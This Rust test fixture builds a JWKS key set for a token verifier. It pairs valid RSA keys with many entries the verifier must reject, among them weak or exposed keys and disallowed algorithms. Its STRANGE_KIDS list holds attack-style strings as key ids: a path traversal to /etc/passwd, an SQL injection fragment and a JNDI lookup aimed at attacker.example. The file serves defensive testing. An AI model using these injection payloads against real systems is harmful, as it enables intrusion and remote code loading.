//! The committed test keys, and the key set that the issuer publishes: good keys, and beside them
//! every entry that must not be taken in.

use dailey_auth::testing::SigningKey;
use serde_json::{Value, json};

use super::rsa::{RsaKey, SHA256};
use crate::loader::folder;

/// 128 characters, the most that a key id may have.
pub(crate) const LONGEST_KID: &str = "kid-of-128-characters-0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345";

/// Every printable ASCII character once.
pub(crate) const PRINTABLE_KID: &str = " !\"#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_`abcdefghijklmnopqrstuvwxyz{|}~";

/// Ids that look like an attack and are the issuer's own choice: text, compared and never used.
pub(crate) const STRANGE_KIDS: [&str; 8] = [
    "~",
    " ",
    "../../etc/passwd",
    "' OR 1=1 --",
    "https://attacker.example/jwks.json",
    "${jndi:ldap://attacker.example/a}",
    "rsa-2048 ",
    "RSA-2048",
];

/// A key pair under the id by which tokens name it.
pub(crate) struct Key {
    pub(crate) kid: &'static str,
    pub(crate) rsa: RsaKey,
    /// Signs much faster than by hand; only for keys that a library takes.
    fast: Option<SigningKey>,
}

impl Key {
    fn read(kid: &'static str) -> Self {
        let path = folder().join(format!("keys/{kid}.test-key.pem"));
        let pem = std::fs::read_to_string(&path)
            .unwrap_or_else(|error| panic!("{}: {error}", path.display()));
        Self {
            kid,
            rsa: RsaKey::from_pem(&pem),
            fast: SigningKey::from_pem(&pem).ok(),
        }
    }

    /// The RS256 signature (RFC 7518 3.3), which is the same each time.
    pub(crate) fn rs256(&self, message: &[u8]) -> Vec<u8> {
        match &self.fast {
            Some(key) => data_encoding::BASE64URL_NOPAD
                .decode(key.signature(message).as_bytes())
                .expect("the kit writes base64url"),
            None => self.rsa.pkcs1(&SHA256, message),
        }
    }

    /// The public key as a published JWK.
    pub(crate) fn jwk(&self) -> Value {
        self.jwk_as(self.kid)
    }

    fn jwk_as(&self, kid: &str) -> Value {
        json!({
            "kty": "RSA", "use": "sig", "alg": "RS256", "kid": kid,
            "n": self.rsa.n_base64url(), "e": self.rsa.e_base64url(),
        })
    }
}

/// All of them.
pub(crate) struct Keys {
    /// The key of every token that asks for no other.
    pub(crate) main: Key,
    pub(crate) rsa_2049: Key,
    pub(crate) rsa_2056: Key,
    pub(crate) rsa_3072: Key,
    pub(crate) rsa_4096: Key,
    pub(crate) rsa_8192: Key,
    /// Published by the issuer, and too short.
    pub(crate) rsa_1024: Key,
    pub(crate) rsa_2047: Key,
    /// Published by the issuer, exponent 3.
    pub(crate) exponent_3: Key,
    /// Published by the issuer with its private half.
    pub(crate) exposed: Key,
    /// Published by the issuer, but only under conditions that forbid its use.
    pub(crate) other: Key,
    /// Not the issuer's at all.
    pub(crate) attacker: Key,
}

impl Keys {
    pub(crate) fn read() -> Self {
        Self {
            main: Key::read("rsa-2048"),
            rsa_2049: Key::read("rsa-2049"),
            rsa_2056: Key::read("rsa-2056"),
            rsa_3072: Key::read("rsa-3072"),
            rsa_4096: Key::read("rsa-4096"),
            rsa_8192: Key::read("rsa-8192"),
            rsa_1024: Key::read("rsa-1024"),
            rsa_2047: Key::read("rsa-2047"),
            exponent_3: Key::read("exponent-3-2048"),
            exposed: Key::read("exposed-2048"),
            other: Key::read("other-2048"),
            attacker: Key::read("attacker-2048"),
        }
    }

    /// `jwks.json`.
    pub(crate) fn jwks(&self) -> String {
        let entries: Vec<String> = self
            .good()
            .into_iter()
            .chain(self.bad())
            .map(|entry| format!("  {entry}"))
            .collect();
        format!("{{\"keys\":[\n{}\n]}}\n", entries.join(",\n"))
    }

    /// Entries that must be taken in.
    fn good(&self) -> Vec<Value> {
        let main = &self.main;
        let mut entries: Vec<Value> = [
            main,
            &self.rsa_2049,
            &self.rsa_2056,
            &self.rsa_3072,
            &self.rsa_4096,
            &self.rsa_8192,
        ]
        .map(Key::jwk)
        .into();
        entries.extend([LONGEST_KID, PRINTABLE_KID].map(|kid| main.jwk_as(kid)));
        entries.extend(STRANGE_KIDS.map(|kid| main.jwk_as(kid)));
        entries.extend([
            changed(main.jwk_as("good-no-alg"), "alg", Value::Null),
            changed(main.jwk_as("good-no-use"), "use", Value::Null),
            changed(main.jwk_as("good-verify"), "key_ops", json!(["verify"])),
            changed(
                main.jwk_as("good-sign-verify"),
                "key_ops",
                json!(["sign", "verify"]),
            ),
            changed(
                main.jwk_as("good-more-members"),
                "x5c",
                json!(["bm90IGEgY2VydGlmaWNhdGU="]),
            ),
            // The same key twice under one id is one key.
            main.jwk_as("good-twice"),
            main.jwk_as("good-twice"),
        ]);
        entries
    }

    /// Entries that must be skipped, without harm to the others.
    fn bad(&self) -> Vec<Value> {
        let other = |kid: &str| self.other.jwk_as(kid);
        let with = |kid: &str, member: &str, value: Value| changed(other(kid), member, value);
        let n = self.other.rsa.n();
        let encode = |bytes: &[u8]| json!(data_encoding::BASE64URL_NOPAD.encode(bytes));
        let mut even = n.clone();
        *even.last_mut().expect("a modulus") &= 0xfe;
        let mut huge = vec![0xc5; 2048];
        huge[2047] |= 1;
        let mut exposed = self.exposed.jwk_as("bad-exposed");
        exposed["d"] = json!(self.exposed.rsa.d_base64url());
        let last = self.other.rsa.n_base64url();
        vec![
            self.rsa_1024.jwk(),
            self.rsa_2047.jwk(),
            self.exponent_3.jwk(),
            exposed,
            // Its private half is known to the world, under whatever id it stands.
            self.exposed.jwk_as("bad-exposed-twin"),
            with("bad-alg-rs384", "alg", json!("RS384")),
            with("bad-alg-rs512", "alg", json!("RS512")),
            with("bad-alg-ps256", "alg", json!("PS256")),
            with("bad-alg-hs256", "alg", json!("HS256")),
            with("bad-alg-none", "alg", json!("none")),
            with("bad-alg-lower", "alg", json!("rs256")),
            with("bad-alg-number", "alg", json!(256)),
            with("bad-use-enc", "use", json!("enc")),
            with("bad-use-upper", "use", json!("SIG")),
            with("bad-ops-sign", "key_ops", json!(["sign"])),
            with("bad-ops-empty", "key_ops", json!([])),
            with("bad-ops-twice", "key_ops", json!(["verify", "verify"])),
            with("bad-ops-string", "key_ops", json!("verify")),
            with("bad-kty-lower", "kty", json!("rsa")),
            with("bad-kty-missing", "kty", Value::Null),
            json!({ "kty": "oct", "kid": "bad-oct", "alg": "HS256", "k": "AAAA" }),
            json!({ "kty": "oct", "kid": "bad-oct-empty", "alg": "RS256", "k": "" }),
            json!({ "kty": "EC", "kid": "bad-ec", "crv": "P-256", "x": "AA", "y": "AA" }),
            with("bad-n-empty", "n", json!("")),
            with("bad-n-missing", "n", Value::Null),
            with("bad-n-even", "n", encode(&even)),
            with("bad-n-leading-zero", "n", encode(&[&[0], &n[..]].concat())),
            with("bad-n-padded", "n", json!(format!("{last}=="))),
            with("bad-n-16384-bits", "n", encode(&huge)),
            with("bad-e-1", "e", json!("AQ")),
            with("bad-e-even", "e", json!("AQAA")),
            with("bad-e-leading-zero", "e", json!("AAEAAQ")),
            with("bad-e-missing", "e", Value::Null),
            // Two different keys under one id: nobody can say which one is meant.
            other("bad-ambiguous"),
            self.main.jwk_as("bad-ambiguous"),
            changed(other(""), "kid", Value::Null),
            changed(other(""), "kid", json!(7)),
            other(""),
            json!(null),
            json!("a key"),
        ]
    }
}

/// The key set's entry with one member changed; `null` takes it out.
fn changed(mut jwk: Value, member: &str, value: Value) -> Value {
    let members = jwk.as_object_mut().expect("a JWK is an object");
    if value.is_null() {
        members.remove(member);
    } else {
        members.insert(member.to_owned(), value);
    }
    jwk
}
